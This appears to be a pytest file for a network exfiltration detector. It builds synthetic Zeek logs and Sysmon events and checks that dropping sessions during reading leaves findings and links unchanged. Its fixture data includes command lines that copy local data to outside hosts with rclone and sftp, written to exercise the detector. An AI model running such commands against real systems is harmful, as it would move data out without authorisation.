"""Leaving out sessions while a large conn log is read changes nothing where telemetry is joined: findings, links and notes are those of all sessions."""

from __future__ import annotations

import json
import os
import pathlib
import random
import zlib
from typing import Any

import pytest

from netexfil import detect, pipeline, read, tables
from netexfil import policy as policies
from tests.read_cases import CORPUS, SSL, conn, tsv, write

pytestmark = pytest.mark.skipif(not read.core_available(), reason="the core is not built")
WORLDS = int(os.environ.get("NETEXFIL_SIFTED", "1"))
SITE = policies.build({"thresholds": {"outbound_volume": 100_000, "asymmetry_small": 4_000, "finding_floor": 1, "fleet": 2, "clients": 2}})
DAY, START = 86_400, 1_700_006_400
HOSTS, ROWS = 600, 2_400
REMOTE = [f"20.1.{n // 200}.{n % 200 + 1}" for n in range(700)] + [f"2001:db8:9::{n:x}" for n in range(1, 99)]
KNOWN = {"ts": "time", "host_ip": "addr", "name": "string"}
NAMES = ("a.example.com", "b.example.com", "x.example.co.uk", "u.s3.amazonaws.com", "dav.example.org", "one")
IMAGES = {"C:\\Tools\\rclone.exe": "rclone.exe copy C:\\data sftp://203.0.113.9/in", "C:\\Program Files\\browser.exe": "browser.exe",
          "C:\\Windows\\System32\\OpenSSH\\sftp.exe": "sftp.exe -b x u@203.0.113.7"}


def inside(number: int) -> str:
    return f"10.0.{number // 200}.{number % 200 + 1}" if number % 19 else f"fd00::{number:x}"


def name_of(remote: str) -> str:
    """Of most addresses their own; a few belong to someone who has several."""
    place = zlib.crc32(remote.encode())
    return NAMES[place % 200] if place % 200 < len(NAMES) else f"www.h{place}.example"


def sessions(rng: random.Random) -> list[dict[str, Any]]:
    days, rows = rng.choice((1, 1, 3)), []
    for number in range(ROWS):
        host, remote = inside(rng.randrange(HOSTS)), rng.choice(REMOTE)
        if ":" in host:
            remote = rng.choice(REMOTE[700:])
        elif ":" in remote:
            remote = REMOTE[0]
        ends = {"orig_h": host, "resp_h": remote} if rng.random() < 0.85 else {"orig_h": remote, "resp_h": host}
        sent = rng.choice((0, 300, 900, 1500)) if rng.random() < 0.97 else rng.choice((9_000, rng.randrange(250_000)))
        rows.append(conn(
            number + 1, ts=START + rng.randrange(days * DAY * 64) / 64, **ends, orig_p=rng.randrange(1024, 1300) if rng.random() < 0.2 else 2000 + number,
            resp_p=443 if rng.random() < 0.9 else rng.choice((22, 80, 21, 5000, 40000)), proto=rng.choice(("tcp", "tcp", "tcp", "udp")),
            service="ssl" if rng.random() < 0.9 else rng.choice((None, "ssh", "http", "ftp", "quic")), orig_bytes=sent, orig_pkts=400, orig_ip_bytes=16_000 + sent,
            resp_bytes=rng.choice((0, 700, 2_500)), resp_ip_bytes=2**30, history="ShADadFf" if rng.random() < 0.97 else "DadA",
            duration=rng.choice((None, 0.5, 30.0, 900.0)), missed_bytes=0,
        ))  # fmt: skip
    return rows


def telemetry(rng: random.Random, rows: list[dict[str, Any]], way: str) -> list[dict[str, Any]]:
    """Events of some hosts, mostly true, by clocks that are wrong. `way`: how their addresses stand to those that the sensor sees."""
    told: list[dict[str, Any]] = []
    hosts = {host: rng.uniform(-200, 200) for host in rng.sample(sorted({row["id.orig_h"] for row in rows if row["id.orig_h"][:3] in ("10.", "fd0")}), 40)}
    for number, row in enumerate(rows):
        host = row["id.orig_h"] if row["id.orig_h"] in hosts else row["id.resp_h"]
        if host not in hosts or rng.random() < 0.3:
            continue
        image = rng.choice(list(IMAGES))
        stamp = row["ts"] + hosts[host] + rng.gauss(0, 0.01)
        name = {"Computer": f"ws{list(hosts).index(host)}.example", "ProcessId": 100 + number, "Image": image, "ProcessGuid": f"{{0a1b2c3d-0000-0000-0000-{number:012x}}}"}
        local = {"gone": f"172.16.0.{list(hosts).index(host)}", "none": None}.get(way, host)
        if rng.random() < 0.4:
            told.append({"EventID": 1, "ts": stamp - 2, "CommandLine": IMAGES[image], "ParentImage": "C:\\Windows\\explorer.exe", **name})
        ends = {"Source": (row["id.orig_h"], row["id.orig_p"]), "Destination": (row["id.resp_h"], row["id.resp_p"])}
        for end, (address, port) in ends.items():
            shown = local if address == host else address
            name |= {} if shown is None else {f"{end}Ip": shown, f"{end}Port": port}
        told.append({"EventID": 3, "ts": stamp, "Protocol": row["proto"], "Initiated": str(row["id.orig_h"] == host).lower(), **name})
        if rng.random() < 0.1:
            told.append({"EventID": 1, "ts": stamp + 900, "CommandLine": IMAGES[image], **name})
    return told


def record(event: dict[str, Any]) -> str:
    import datetime

    stamp = datetime.datetime.fromtimestamp(event.pop("ts"), datetime.UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
    return json.dumps({"Channel": "Microsoft-Windows-Sysmon/Operational", "UtcTime": stamp, **event})


def told(folder: pathlib.Path, joined: pathlib.Path, size: int, kept: list[int], **more: Any) -> Any:
    """Findings, links and notes. `size` 0: sessions are left out; very large: none is."""
    con = tables.connect()
    site = more.pop("policy", SITE)
    worth = read.Worth(*detect.worth(site), silent=int(site.threshold("outbound_volume")), size=size)
    job = pipeline.Job(sources=[str(folder)], join=[str(joined)], policy=site, options=read.Options(only_outbound=True, sift=worth), **more)
    made = pipeline.analyze(con, job)
    kept += [row[0] for row in con.execute("SELECT count(*) FROM session").fetchall()]
    links = con.execute("""SELECT uid, eid, match, round(confidence, 9), candidates, round(seconds_apart, 6), clock_offset FROM link
        JOIN session USING (sid) ORDER BY ALL""").fetchall()
    unmatched = con.execute("SELECT * FROM unmatched ORDER BY ALL").fetchall()
    return [finding.record() for finding in made.findings], links, unmatched, list(made.notes)


def world(folder: pathlib.Path, seed: int, way: str) -> tuple[pathlib.Path, pathlib.Path]:
    rng = random.Random(seed)
    rows, logs = sessions(rng), folder / "logs"
    twice = [{**row, "uid": f"{row['uid']}x", "ts": row["ts"] + 0.01} for row in rows[::7]] if way == "twice" else []
    logs.mkdir()
    write(logs, "conn.log", tsv(rows))
    if twice:
        write(logs, "conn.2.log", tsv(twice))
    spoken = [row for row in rows if row["service"] == "ssl" or rng.random() < 0.02]
    write(logs, "ssl.log", tsv([{**{key: row[key] for key in list(SSL)[:6]}, "server_name": name_of(row["id.resp_h"]), "version": "TLSv13"} for row in spoken], "ssl", SSL))
    names = [{"ts": START + n, "host_ip": inside(n), "name": f"ws{n % 40}"} for n in range(5)] if way == "named" else []
    write(logs, "known_hosts.log", tsv(names, "known_hosts", KNOWN))
    return logs, write(folder, "events.jsonl", "\n".join(map(record, telemetry(rng, rows, way))) + "\n")


@pytest.mark.parametrize("seed", range(WORLDS))
@pytest.mark.parametrize("way", ["seen", "gone", "none", "twice", "named"])
def test_what_is_told_does_not_depend_on_what_was_left_out(tmp_path: pathlib.Path, seed: int, way: str) -> None:
    kept: list[int] = []
    logs, events = world(tmp_path, seed, way)
    assert told(logs, events, 0, kept) == told(logs, events, 1 << 60, kept)
    assert way != "seen" or kept[0] < 0.8 * kept[1]


LAB = sorted(path.name for path in (CORPUS / "lab-zeek").glob("*.pcap*")) if (CORPUS / "lab-zeek").is_dir() else []


@pytest.mark.parametrize("name", LAB[:: max(1, len(LAB) // (3 * WORLDS))])
def test_on_recorded_logs(name: str) -> None:
    logs, events = CORPUS / "lab-zeek" / name, CORPUS / "lab" / f"{name.partition('.')[0]}.endpoint.jsonl"
    if not events.is_file():
        pytest.skip("no telemetry of it")
    kept: list[int] = []
    assert told(logs, events, 0, kept, policy=policies.Policy()) == told(logs, events, 1 << 60, kept, policy=policies.Policy())
